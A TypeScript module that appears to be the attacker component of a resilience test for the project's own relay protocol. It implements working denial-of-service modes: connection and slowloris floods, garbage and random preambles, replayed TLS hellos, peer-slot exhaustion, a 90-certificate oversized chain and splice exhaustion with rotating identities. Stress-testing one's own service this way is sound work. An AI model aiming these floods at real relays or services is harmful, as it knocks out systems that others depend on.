/**
 * The attacker of (j): a program that does one thing to a relay again and again, all from one address, as fast as its
 * core lets it. It leaves that core to the honest load when that wants it. What it opens ends with it.
 */
import * as CertDigest from "@tx3/protocol/CertDigest"
import * as Identity from "@tx3/protocol/Identity"
import * as Preamble from "@tx3/protocol/Preamble"
import * as Tls from "@tx3/protocol/Tls"
import * as WellKnownCa from "@tx3/protocol/WellKnownCa"
import * as Effect from "effect/Effect"
import * as Redacted from "effect/Redacted"
import { randomBytes } from "node:crypto"
import { connect, type Socket } from "node:net"
import { setPriority } from "node:os"
import { Duplex } from "node:stream"
import * as tls from "node:tls"
import type * as messages from "./messages.js"
import { attackSource, serve } from "./program.js"

/** Connections that are being opened at a time. */
const opening = 128

/** Connections that are kept; the oldest goes for each one more. */
const mostHeld = 2_000

/** Peers of one node that wait at a time; the rest have reset their connections. */
const waitingPeers = 28

/** Handshakes at a time, and how long one may take. */
const handshaking = 16
const handshakeMs = 5_000

/** Splices that a node of the attacker makes before it leaves. */
const splicesPerNode = 32

let attempts = 0

const ignore = () => {}

const open = ({ host, port }: messages.Attacked, first: Uint8Array): Socket => {
  const socket = connect({ host, port, localAddress: attackSource, noDelay: true })
  socket.on("error", ignore)
  socket.write(first)
  return socket
}

/** A place for so many connections: one more resets the oldest. */
const holder = (most: number) => {
  const held = new Set<Socket>()
  return (socket: Socket) => {
    held.add(socket)
    socket.once("close", () => held.delete(socket))
    if (held.size > most) {
      const [oldest] = held
      held.delete(oldest!)
      oldest!.resetAndDestroy()
    }
  }
}

/** Connections that say this and then nothing. */
const flood = (target: messages.Attacked, most: number, first: () => Uint8Array) => {
  const hold = holder(most)
  const next = () => {
    attempts++
    const socket = open(target, first())
    let isOpen = false
    socket.once("connect", () => {
      isOpen = true
      hold(socket)
      setImmediate(next)
    })
    socket.once("close", () => isOpen || setImmediate(next))
    socket.resume()
  }
  for (let count = 0; count < opening; count++) {
    next()
  }
}

interface Node {
  readonly context: tls.SecureContext
  readonly digest: Uint8Array
}

const nodeOf = (identity: Identity.Identity): Node => ({
  context: Tls.secureContext(identity),
  digest: CertDigest.toBytes(identity.digest)
})

/** Control streams, one after the other in each of the places. `live` is told of the all-clear, and ends the stream. */
const handshakes = (
  target: messages.Attacked,
  nextNode: () => Node,
  live: (control: tls.TLSSocket, node: Node) => void
) => {
  const next = () => {
    attempts++
    const node = nextNode()
    const tcp = open(target, Buffer.from(target.relay, "base64"))
    const control = tls.connect({ socket: tcp, ...Tls.clientOptions(node.context) })
    const timer = setTimeout(() => control.destroy(), handshakeMs)
    control.on("error", ignore)
    control.once("data", () => live(control, node))
    control.once("close", () => {
      clearTimeout(timer)
      tcp.destroy()
      setImmediate(next)
    })
  }
  for (let count = 0; count < handshaking; count++) {
    next()
  }
}

const newIdentity = () => Effect.runPromise(Identity.generate)

const pem = (label: string, der: Uint8Array) =>
  `-----BEGIN ${label}-----\n${Buffer.from(der).toString("base64")}\n-----END ${label}-----\n`

/** A node that sends its certificate with ninety more behind it. */
const withChain = (identity: Identity.Identity): Node => ({
  digest: CertDigest.toBytes(identity.digest),
  context: tls.createSecureContext({
    minVersion: "TLSv1.3",
    cert: pem("CERTIFICATE", identity.certificate) + pem("CERTIFICATE", WellKnownCa.certificate).repeat(90),
    key: pem("PRIVATE KEY", Redacted.value(identity.privateKey))
  })
})

const clientHello = (context: tls.SecureContext) =>
  new Promise<Buffer>((resolve) => {
    const socket = new Duplex({
      read: ignore,
      write: (chunk: Buffer, _encoding, done) => {
        resolve(chunk)
        done()
      }
    })
    tls.connect({ socket, ...Tls.clientOptions(context) }).on("error", ignore)
  })

/** Nodes that make splices with peers of their own and leave, each under another identity than the one before. */
const splices = async (target: messages.Attacked) => {
  const nodes = (await Promise.all(Array.from({ length: 64 }, newIdentity))).map(nodeOf)
  const hold = holder(mostHeld)
  const dial = (first: Uint8Array) => {
    const socket = open(target, first)
    socket.once("connect", () => hold(socket))
    socket.resume()
  }
  let used = 0
  handshakes(target, () => nodes[used++ % nodes.length]!, (control, { digest }) => {
    let rest: Buffer = Buffer.alloc(0)
    let left = splicesPerNode
    control.on("data", (chunk: Buffer) => {
      rest = Buffer.concat([rest, chunk])
      for (; rest.length >= Preamble.length; rest = rest.subarray(Preamble.length)) {
        dial(rest.subarray(0, Preamble.length))
        if (--left === 0) {
          control.destroy()
        }
      }
    })
    for (let peer = 0; peer < splicesPerNode; peer++) {
      dial(digest)
    }
  })
}

const start = async (attack: messages.Attack, target: messages.Attacked) => {
  const relay = Buffer.from(target.relay, "base64")
  const node = Buffer.from(target.node, "base64")
  const always = (first: Uint8Array) => () => first
  switch (attack) {
    case "silent":
      return flood(target, mostHeld, always(Buffer.alloc(0)))
    case "slow":
      return flood(target, mostHeld, always(relay.subarray(0, 31)))
    case "unknown":
      return flood(target, mostHeld, () => randomBytes(Preamble.length))
    case "garbage":
      return flood(target, mostHeld, always(Buffer.concat([relay, Buffer.alloc(1_000, 0xa5)])))
    case "hello": {
      const hello = await clientHello(Tls.secureContext(await newIdentity()))
      return flood(target, mostHeld, always(Buffer.concat([relay, hello])))
    }
    case "peers":
      return flood(target, waitingPeers, always(node))
    case "chain": {
      const node = withChain(await newIdentity())
      return handshakes(target, () => node, (control) => control.destroy())
    }
    case "splices":
      return splices(target)
  }
}

setPriority(19)

serve(async (request: messages.AttackerRequest) => {
  switch (request.type) {
    case "start":
      return start(request.attack, request)
    case "attempts":
      return { count: attempts, atMs: performance.now() } satisfies messages.Attempts
  }
})
